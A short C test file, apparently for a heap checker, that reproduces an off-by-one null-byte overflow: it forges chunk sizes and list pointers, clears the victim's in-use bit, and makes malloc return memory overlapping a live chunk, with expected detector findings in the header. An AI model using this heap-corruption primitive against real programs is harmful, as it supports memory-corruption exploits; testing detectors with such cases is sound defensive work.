/* One byte too many, a string's final null, says of the piece before that it is free. Freeing the next piece merges
 * backwards over all that a forged size covers, pieces in use among it.
 *
 * Broken: a write of one byte behind the end of a piece.
 * Impossible: malloc returns a piece that covers two others in use.
 *
 * expect rule overflow
 * expect sign overlap
 * expect ends exit 0
 */
#include "chunk.h"

int main(void)
{
    size_t *forged = malloc(0x108), *middle = malloc(0x28), *victim = malloc(0x4f8), *piece;

    malloc(24);
    forged[1] = 0x130;                                  /* from here to the victim */
    forged[2] = forged[3] = (size_t)forged;             /* a list of its own */
    middle[4] = 0x130;                                  /* the middle piece's last word */
    ((char *)middle)[0x28] = 0;                         /* deed */
    free(victim);
    piece = malloc(0x620);                              /* impossible */
    fact("impossible", piece == forged + 2 && piece < middle && piece + 0x620 / 8 > middle);
    return 0;
}
